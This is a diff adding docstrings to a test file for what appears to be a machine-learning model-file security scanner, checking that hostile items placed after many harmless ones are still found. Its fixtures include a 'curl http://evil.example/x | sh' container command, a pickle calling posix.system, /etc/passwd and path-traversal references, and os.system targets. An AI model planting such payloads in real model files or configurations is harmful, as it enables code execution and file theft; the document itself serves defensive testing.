@@ -18,11 +18,13 @@ from modelaudit.model.structure import UnreadReason
 from modelaudit.wire.bounds import build_references, keep_first
 
 DOWNLOAD = "curl http://evil.example/x | sh"
+# Both with zero bytes behind them: the dictionary {"a": 1}, and a call of posix.system.
 BENIGN_PICKLE = b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s." + bytes(20)
 HOSTILE_PICKLE = b"\x80\x02cposix\nsystem\nX\x02\x00\x00\x00id\x85R." + bytes(4)
 
 
 def build_pmml(content: str, namespaces: int = 0) -> str:
+    """Return a PMML document with ``content`` behind as many ``namespaces``."""
     declarations = "".join(f'<a xmlns:p{number}="urn:x:{number}"/>' for number in range(namespaces))
     return (
         f'<?xml version="1.0"?><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">{declarations}{content}</PMML>'
@@ -30,17 +32,20 @@ def build_pmml(content: str, namespaces: int = 0) -> str:
 
 
 def build_calls(count: int) -> str:
+    """Return PMML that defines and calls ``count`` functions, and then calls one that it does not define."""
     functions = [f"f{number}" for number in range(count)]
     definitions = "".join(f'<DefineFunction name="{name}"/>' for name in functions)
     return definitions + "".join(f'<Apply function="{name}"/>' for name in (*functions, "acmeExec"))
 
 
 def build_includes(count: int) -> str:
+    """Return XML that includes ``count`` files beside it, and then one by an absolute path."""
     includes = "".join(f'<xi:include href="a{number}.xml"/>' for number in range(count))
     return f'<?xml version="1.0"?><r xmlns:xi="http://www.w3.org/2001/XInclude">{includes}<xi:include href="/x"/></r>'
 
 
 def build_keras(count: int) -> str:
+    """Return a Keras model with ``count`` vocabularies beside it, and then one outside its folder."""
     layers = [
         {"class_name": "StringLookup", "module": "keras.layers", "config": {"name": str(number), "vocabulary": path}}
         for number, path in enumerate(["words.txt"] * count + ["/etc/passwd"])
@@ -49,26 +54,31 @@ def build_keras(count: int) -> str:
 
 
 def build_triton(count: int) -> str:
+    """Return Triton settings with ``count`` label files, and then a library outside the folder."""
     labels = "".join(f'output [ {{ label_filename: "l{number}.txt" }} ]\n' for number in range(count))
     library = 'model_operations { op_library_filename: "../../evil.so" }\n'
     return f'name: "m"\nbackend: "onnxruntime"\nmax_batch_size: 8\n{labels}{library}'
 
 
 def build_shard_index(count: int) -> str:
+    """Return an index with ``count`` shards beside it, and then one outside its folder."""
     return json.dumps({"weight_map": {**{f"t{number}": f"s{number}" for number in range(count)}, "z": "../../x"}})
 
 
 def build_auto_map(count: int) -> str:
+    """Return a configuration with ``count`` classes of its own, and then one of another repository."""
     own = {f"Auto{number}": "configuration_x.C" for number in range(count)}
     return json.dumps({"auto_map": {**own, "AutoModel": "evil/repo--modeling_x.C"}})
 
 
 def build_model_index(count: int) -> str:
+    """Return a diffusers index with ``count`` trusted components, and then ``os.system``."""
     own = {f"c{number}": ["torch.nn", "Linear"] for number in range(count)}
     return json.dumps({"_class_name": "X", **own, "z": ["os", "system"]})
 
 
 def build_notebook(count: int) -> str:
+    """Return a notebook that runs ``count`` files beside it, and then one outside its folder."""
     source = "".join(f"%run a{number}.py\n" for number in range(count)) + "%run /tmp/evil.txt"
     cell = {"cell_type": "code", "id": "a", "metadata": {}, "outputs": [], "execution_count": None, "source": source}
     kernel = {"kernelspec": {"name": "python3", "display_name": "x", "language": "python"}}
@@ -76,11 +86,13 @@ def build_notebook(count: int) -> str:
 
 
 def build_container_settings(count: int) -> str:
+    """Return container settings with ``count`` harmless commands, and then a download that is run."""
     prepared = {f"c{number}": {"initializeCommand": f"make x{number}"} for number in range(count)}
     return json.dumps({**prepared, "postCreateCommand": DOWNLOAD})
 
 
 def build_safetensors(count: int) -> bytes:
+    """Return a safetensors file with ``count`` harmless texts in its metadata, and then a dangerous one."""
     metadata = {**{f"k{number}": '{"a":1}' for number in range(count)}, "z": '{"_target_":"os.system"}'}
     tensor = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
     header = json.dumps({"__metadata__": metadata, "a": tensor}).encode()
@@ -89,12 +101,14 @@ def build_safetensors(count: int) -> bytes:
 
 
 def build_onnx(count: int) -> bytes:
+    """Return an ONNX model with ``count`` harmless pickles in attributes, and then a hostile one."""
     texts = [BENIGN_PICKLE] * count + [HOSTILE_PICKLE]
     attributes = [onnx_files.encode_attribute("a", text=base64.b64encode(text)) for text in texts]
     return onnx_files.encode_model(onnx_files.encode_graph(onnx_files.encode_node("Relu", *attributes)))
 
 
 def build_collections(count: int) -> bytes:
+    """Return a SavedModel whose collection has ``count`` short values, and then a hostile pickle."""
     values = tensorflow_wire.encode_message(1, b"a") * count
     values += tensorflow_wire.encode_message(1, base64.b64encode(HOSTILE_PICKLE))
     collection = tensorflow_wire.encode_message(2, tensorflow_wire.encode_message(2, values))
@@ -104,6 +118,7 @@ def build_collections(count: int) -> bytes:
 
 
 def build_checkpoint_state(count: int) -> str:
+    """Return a checkpoint state with ``count`` paths beside it, and then one outside its folder."""
     paths = "".join(f'all_model_checkpoint_paths: "m{number}"\n' for number in range(count))
     return f'model_checkpoint_path: "m"\n{paths}all_model_checkpoint_paths: "/etc/passwd"\n'
 
@@ -144,6 +159,7 @@ BEYOND: dict[str, tuple[str, Callable[[], str | bytes]]] = {
     "resolver": ("m.yaml", lambda: 'a: "${x:b}"\n' * 2_001 + "z: \"${eval:__import__('os')}\"\n"),
     "name in a long text": ("m.conf", lambda: "x y z\n" * (8 * MIB // 6 + 1) + "_target_ = os.system\n"),
 }
+"""For each case the name of a file, and a function that builds it: many harmless items, then a hostile one."""
 
 
 @pytest.mark.parametrize("case", BEYOND)
@@ -157,6 +173,7 @@ def test_item_beyond_a_bound_makes_a_finding_or_leaves_an_absence(case: str, tmp
 
 
 def make_references(count: int) -> Iterator[Reference]:
+    """Yield ``count`` references to different files."""
     return (Reference(ReferenceKind.DATA, f"file-{number}") for number in range(count))
 
 
